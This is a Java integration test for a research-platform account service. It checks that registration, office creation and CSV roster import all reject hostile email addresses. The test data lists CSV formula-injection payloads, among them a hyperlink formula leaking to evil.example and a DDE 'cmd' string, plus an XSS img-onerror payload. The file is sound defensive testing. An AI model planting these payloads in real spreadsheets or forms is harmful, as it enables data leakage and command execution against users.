package com.researchbridge.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.researchbridge.base.Country;
import com.researchbridge.base.TranslationProvider;
import com.researchbridge.base.UiLanguage;
import com.researchbridge.institution.InstitutionService;
import com.researchbridge.onboarding.ImportMode;
import com.researchbridge.onboarding.OnboardingService;
import com.researchbridge.onboarding.Problem;
import com.researchbridge.onboarding.Progress;
import com.researchbridge.onboarding.RosterRejected;
import com.researchbridge.security.RegistrationRejected.Field;
import com.researchbridge.testsupport.Anonymous;
import com.researchbridge.testsupport.DemoAccounts;
import com.researchbridge.testsupport.IntegrationTest;
import com.researchbridge.testsupport.RunAs;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.core.userdetails.UserDetailsService;

/**
 * Addresses that are formulas or markup were stored as accounts by the old check; every way an address enters
 * now refuses them with the translated message and stores nothing.
 */
@IntegrationTest
class HostileEmailAddressesTest {

    static final List<String> HOSTILE = List.of(
            "=hyperlink(\"http://evil.example/?leak\")@x.kz",
            "+2,=3+4@x.kz",
            "<img/src=x/onerror=alert(1)>@x.kz",
            "=1+1@x.kz",
            "-2+3@x.kz",
            "@sum(a1)@x.kz",
            "\"=cmd|' /C calc'!A0\"@x.kz",
            "a@[127.0.0.1]",
            "x".repeat(65) + "@x.kz");

    @Autowired
    AccountService accounts;
    @Autowired
    OnboardingService onboarding;
    @Autowired
    InstitutionService institutions;
    @Autowired
    UserDetailsService users;
    @Autowired
    TranslationProvider translations;
    @Autowired
    JdbcTemplate jdbc;

    private List<Long> counts() {
        return List.of(count("user_account"), count("researcher_profile"), count("invitation"));
    }

    private long count(String table) {
        return jdbc.queryForObject("select count(*) from " + table, Long.class);
    }

    private long storedHostile() {
        return HOSTILE.stream().mapToLong(address -> jdbc.queryForObject(
                "select count(*) from user_account where email = ?", Long.class, EmailAddress.normalize(address))).sum();
    }

    private void assertTranslatedInEveryLanguage(String key) {
        for (UiLanguage language : UiLanguage.values()) {
            String text = translations.getTranslation(key, language.locale());
            assertThat(text).as(key + " in " + language).isNotBlank().isNotEqualTo(key).doesNotContain("!{");
        }
    }

    @Test
    void registrationRefusesEachHostileAddressWithTheTranslatedMessage() {
        var kaznu = institutions.findByCode("KZ-KAZNU").orElseThrow().id();
        var before = counts();
        for (String address : HOSTILE) {
            Anonymous.run(() -> assertThatThrownBy(() -> accounts.register(
                    new NewResearcher("Mallory", address, "glacier-runoff-Tianshan-77", Country.KZ, kaznu)))
                    .as(address).isInstanceOfSatisfying(RegistrationRejected.class, e -> assertThat(e.problems())
                            .containsExactly(new RegistrationRejected.Problem(Field.EMAIL, "validation.email"))));
        }
        assertTranslatedInEveryLanguage("validation.email");
        assertThat(counts()).isEqualTo(before);
        assertThat(storedHostile()).isZero();
    }

    @Test
    void officeCreationRefusesEachHostileAddressWithTheTranslatedMessage() {
        var xju = institutions.findByCode("CN-XJU").orElseThrow().id();
        var before = counts();
        for (String address : HOSTILE) {
            RunAs.user(users, DemoAccounts.ADMIN, () -> assertThatThrownBy(
                    () -> accounts.createResearchOffice(address, "Office", xju))
                    .as(address).isInstanceOfSatisfying(RegistrationRejected.class, e -> assertThat(e.problems())
                            .containsExactly(new RegistrationRejected.Problem(Field.EMAIL, "validation.email"))));
        }
        assertThat(counts()).isEqualTo(before);
        assertThat(storedHostile()).isZero();
    }

    @Test
    void rosterImportReportsEachHostileAddressAndImportsNoneOfThem() {
        String file = "email,full_name\n" + HOSTILE.stream()
                .map(a -> "\"" + a.replace("\"", "\"\"") + "\",Mallory").collect(Collectors.joining("\n"))
                + "\n";
        byte[] csv = file.getBytes(StandardCharsets.UTF_8);
        var before = counts();

        RunAs.user(users, DemoAccounts.OFFICE_KAZNU, () -> {
            var report = onboarding.validate(csv, Progress.NONE);
            assertThat(report.rows()).hasSize(HOSTILE.size());
            assertThat(report.rows()).allSatisfy(row -> assertThat(row.problems()).extracting(Problem::messageKey)
                    .as(row.email()).containsExactly("onboarding.problem.emailMalformed"));
            assertThat(report.rows()).extracting(r -> r.email()).containsExactlyElementsOf(HOSTILE);
            assertThatThrownBy(() -> onboarding.importRoster(csv, ImportMode.VALID_ROWS, Progress.NONE))
                    .isInstanceOf(RosterRejected.class);
        });
        assertTranslatedInEveryLanguage("onboarding.problem.emailMalformed");
        assertThat(counts()).isEqualTo(before);
        assertThat(storedHostile()).isZero();
    }
}
